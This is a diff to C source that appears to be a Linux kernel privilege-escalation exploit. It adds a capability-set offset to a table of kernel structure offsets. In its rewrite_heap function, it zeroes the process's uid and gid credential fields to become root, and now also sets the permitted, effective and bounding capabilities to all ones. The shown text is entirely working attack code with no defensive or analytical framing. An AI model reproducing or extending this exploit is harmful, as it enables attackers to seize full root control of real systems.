@@ -776,7 +776,7 @@ static void probe_capabilities(void) {
 
 struct Layout {
   long k_cfg, cfg_root, cfg_net_none, k_init, p_creds, p_pid, p_children, p_sibling, h_heap, h_root_fd,
-      h_root_is_slash, h_root_len, h_root;
+      h_root_is_slash, h_root_len, h_root, c_caps;
 };
 
 static int parse_layout(struct Layout* l) {
@@ -786,7 +786,7 @@ static int parse_layout(struct Layout* l) {
       {"k_init", &l->k_init},       {"p_creds", &l->p_creds},           {"p_pid", &l->p_pid},
       {"p_children", &l->p_children}, {"p_sibling", &l->p_sibling},   {"h_heap", &l->h_heap},
       {"h_root_fd", &l->h_root_fd}, {"h_root_is_slash", &l->h_root_is_slash},
-      {"h_root_len", &l->h_root_len}, {"h_root", &l->h_root},
+      {"h_root_len", &l->h_root_len}, {"h_root", &l->h_root},       {"c_caps", &l->c_caps},
   };
   int found = 0;
   for (size_t i = 0; i < sizeof keys / sizeof keys[0]; i++) {
@@ -883,6 +883,8 @@ static int rewrite_heap(void) {
   }
   uint32_t* creds = (uint32_t*)(me + l.p_creds);
   for (int i = 0; i < 8; i++) creds[i] = 0;  // uid euid suid fsuid gid egid sgid fsgid
+  uint64_t* caps = (uint64_t*)(me + l.p_creds + l.c_caps);
+  for (int i = 0; i < 3; i++) caps[i] = ~0ull;  // permitted, effective, bounding: every capability
   printf("heap: credentials rewritten, getuid() = %d geteuid() = %d\n", (int)getuid(), (int)geteuid());
   if (getuid() != 0) return 0;
 
